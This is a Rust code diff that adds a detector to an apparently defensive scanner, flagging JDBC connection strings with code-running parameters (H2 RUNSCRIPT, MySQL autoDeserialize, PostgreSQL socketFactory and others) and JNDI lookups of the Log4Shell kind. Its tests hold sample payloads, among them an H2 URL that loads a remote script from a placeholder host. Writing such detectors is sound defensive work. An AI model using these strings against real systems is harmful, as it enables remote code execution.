@@ -95,6 +95,9 @@ fn cut(text: &str) -> &str {
 
 fn plain(text: &str, budget: &Budget) -> Option<String> {
     let small = text.to_ascii_lowercase();
+    if let Some(what) = database_address(&small) {
+        return Some(format!("{what}: {}", shown(text)));
+    }
     // Templates are judged by their own rules.
     let is_template = text.contains("{%") || text.contains("{{");
     if is_template || !HINTS.iter().any(|hint| small.contains(hint)) || budget.operate(text.len() as u64 / 16).is_err()
@@ -102,6 +105,30 @@ fn plain(text: &str, budget: &Budget) -> Option<String> {
         return None;
     }
     page(&small).or_else(|| command(text, budget)).or_else(|| python(text, budget))
+}
+
+/// An address by which a driver of databases, or a logger, runs what it is told: what opens it, and what it has then.
+const ADDRESSES: &[(&str, &[&str])] = &[
+    ("jdbc:h2:", &["runscript", "init=", "create trigger", "create alias"]),
+    ("jdbc:mysql:", &["autodeserialize=true", "allowloadlocalinfile=true", "queryinterceptors=", "statementinterceptors="]),
+    ("jdbc:mariadb:", &["autodeserialize=true", "allowlocalinfile=true"]),
+    ("jdbc:postgresql:", &["socketfactory=", "sslfactory=", "loggerfile="]),
+    ("jdbc:db2:", &["clientrerouteserverlistjndiname="]),
+    ("jdbc:sqlite:", &[":resource:http", "enable_load_extension=true"]),
+    ("jdbc:derby:", &["startmaster=true", "slavehost="]),
+    ("${jndi:", &["ldap:", "ldaps:", "rmi:", "dns:", "iiop:"]),
+];
+
+/// What such an address does to whoever opens it.
+fn database_address(small: &str) -> Option<&'static str> {
+    ADDRESSES.iter().find_map(|(start, options)| {
+        let address = small.get(small.find(start)?..)?;
+        let does_harm = options.iter().any(|option| address.contains(option));
+        does_harm.then_some(match start.starts_with("jdbc:") {
+            true => "the address of a database that runs code when it is opened",
+            false => "a name that a logger of Java resolves and loads",
+        })
+    })
 }
 
 /// A script of a page: whoever shows the description in a browser runs it.
@@ -237,6 +264,20 @@ mod tests {
 
     fn is_program(text: &str) -> bool {
         judge(text, &Budget::default()).is_some()
+    }
+
+    #[test]
+    fn addresses_that_run_code_are_told_from_ordinary_ones() {
+        for text in [
+            "jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://example.invalid/x.sql'",
+            "jdbc:mysql://example.invalid/a?autoDeserialize=true",
+            "x ${JNDI:ldap://example.invalid/a} y",
+        ] {
+            assert!(judge(text, &Budget::default()).is_some(), "{text}");
+        }
+        for text in ["jdbc:h2:mem:features", "jdbc:mysql://localhost/features?useSSL=true", "the ${jndi} prefix"] {
+            assert_eq!(judge(text, &Budget::default()), None, "{text}");
+        }
     }
 
     #[test]
